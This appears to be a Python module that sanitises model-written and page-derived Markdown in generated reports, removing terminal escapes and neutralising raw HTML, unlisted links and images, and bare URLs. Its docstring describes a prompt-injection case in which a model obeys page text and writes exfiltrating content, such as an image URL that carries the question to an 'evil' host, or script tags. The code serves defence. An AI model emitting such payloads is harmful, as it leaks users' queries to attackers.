"""Make model-written and page-derived Markdown inert before it leaves the run.

A model that follows text on a page it read can write active content into the report: an
image whose URL carries the question to an attacker (``![x](http://evil/?q=...)``), raw HTML
(``<img onerror>``, ``<script>``), a link to a page that is not one of the report's sources,
or terminal escapes that rewrite what ``cat report.md`` shows. :func:`inert_markdown` turns
each of these into plain text, outside code (code spans and fenced blocks are shown as text by
every Markdown viewer, so only their control characters go):

* terminal escapes and other control characters but tab and newline are removed;
* a raw HTML tag, comment or autolink (``<`` then a letter, ``/``, ``!`` or ``?``) has its
  ``<`` written ``&lt;``, which a viewer shows as ``<``;
* an image or link whose URL is not one of ``allowed`` (the report's references) becomes its
  text, and so does a link definition (``[x]: URL``);
* a bare ``http(s)://`` URL that is not allowed, or a ``www.`` address (which GitHub's
  Markdown links too), is put in a code span, so that no viewer turns it into a link.

The edits are returned with the text, so that offsets into the original (the claims') can be
moved into the result (:meth:`Inert.moved`).
"""

from __future__ import annotations

import re
from bisect import bisect_right
from collections.abc import Collection
from dataclasses import dataclass, field

_CONTROL = re.compile(
    r"\x1b\[[0-?]*[ -/]*[@-~]"  # CSI: colours, cursor moves, erasing
    r"|\x1b\][^\x07\x1b]*(?:\x07|\x1b\\)?"  # OSC: titles, hyperlinks
    r"|[\x00-\x08\x0b-\x1f\x7f-\x9f]"  # other C0 and C1 controls (tab and newline stay)
)

_NAME_CONTROL = re.compile(r"[\x00-\x1f\x7f-\x9f]")
"""Control characters of a file name, newlines and tabs included."""

_TOKEN = re.compile(
    r"(?P<fence>^ {0,3}(?P<marks>```+|~~~+)[^\n]*\n(?:.*?\n)?? {0,3}(?P=marks)[ \t]*(?:\n|\Z))"
    r"|(?P<code>(?P<ticks>`+)[^`]+?(?P=ticks))"
    r"|(?P<image>!\[(?P<alt>[^\]\n]*)\]\((?P<src>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
    r"|(?P<link>\[(?P<text>[^\]\n]*)\]\((?P<href>[^)\s]*)(?:\s+\"[^\"\n]*\")?\))"
    r"|(?P<definition>^ {0,3}\[(?!\^)[^\]\n]+\]:[ \t]*<?(?P<target>[^\s>]+)>?[^\n]*)"
    r"|(?P<tag><(?=[A-Za-z/!?]))"
    r"|(?P<bare>\b(?:(?:https?|ftp)://|www\.)[^\s<>()\[\]`]*[^\s<>()\[\]`.,;:!?'\"*_])",
    re.MULTILINE | re.DOTALL,
)


@dataclass(frozen=True)
class Edit:
    """One replacement: ``text[start:end]`` became ``replacement``."""

    start: int
    end: int
    replacement: str


@dataclass(frozen=True)
class Inert:
    """The inert text and the edits that made it from the original."""

    text: str
    edits: list[Edit] = field(default_factory=list)

    def moved(self, offset: int) -> int:
        """Where ``offset`` into the original lies in :attr:`text`.

        An offset inside a replaced stretch lands inside its replacement (at most at its end).
        """
        ends = [edit.end for edit in self.edits]
        before = bisect_right(ends, offset)
        shift = sum(len(e.replacement) - (e.end - e.start) for e in self.edits[:before])
        if before < len(self.edits) and self.edits[before].start < offset:
            edit = self.edits[before]
            return edit.start + shift + min(offset - edit.start, len(edit.replacement))
        return offset + shift


def strip_controls(text: str) -> str:
    """``text`` without terminal escapes or control characters (tab and newline kept)."""
    return _CONTROL.sub("", text)


def escaped_name(name: str) -> str:
    """A file name fit to print on one line: control characters (newlines too) escaped.

    A newline becomes backslash and ``n``: a name cannot forge a line of progress or of a
    report, nor send an escape sequence to a terminal, and escaped names still differ.
    """
    return _NAME_CONTROL.sub(lambda m: m[0].encode("unicode_escape").decode("ascii"), name)


def _replacement(match: re.Match[str], allowed: Collection[str]) -> str | None:
    """What a token becomes, or ``None`` when it stays as it is (controls aside)."""
    kind = match.lastgroup
    if kind in ("fence", "code"):
        return None
    if kind == "image":
        return None if match["src"] in allowed else match["alt"]
    if kind == "link":
        return None if match["href"] in allowed else match["text"]
    if kind == "definition":
        return None if match["target"] in allowed else "\\" + match[0].lstrip()
    if kind == "tag":
        return "&lt;"
    if kind == "bare":
        return None if match[0] in allowed else f"`{match[0]}`"
    return None  # pragma: no cover - every group is named above


def inert_markdown(text: str, allowed: Collection[str] = ()) -> Inert:
    """Make ``text`` inert (see the module docstring); ``allowed`` are the URLs it may show."""
    edits: list[Edit] = []
    for match in _TOKEN.finditer(text):
        replacement = _replacement(match, allowed)
        original = match[0]
        if replacement is None:
            replacement = strip_controls(original)
        else:  # a link's or an image's text may hold more of the same
            replacement = inert_markdown(strip_controls(replacement), allowed).text
        if replacement != original:
            edits.append(Edit(match.start(), match.end(), replacement))
    edits.extend(
        Edit(m.start(), m.end(), "")
        for m in _CONTROL.finditer(text)
        if not any(e.start <= m.start() < e.end for e in edits)
    )
    edits.sort(key=lambda edit: edit.start)
    pieces: list[str] = []
    last = 0
    for edit in edits:
        pieces.append(text[last : edit.start])
        pieces.append(edit.replacement)
        last = edit.end
    pieces.append(text[last:])
    return Inert("".join(pieces), edits)


def inert_text(text: str, allowed: Collection[str] = ()) -> str:
    """:func:`inert_markdown`'s text alone (a summary, a limitation, a claim)."""
    return inert_markdown(text, allowed).text


def inert_title(title: str) -> str:
    """A title on one line with no active content (a chat's, a report's H1)."""
    return " ".join(inert_text(title).split())
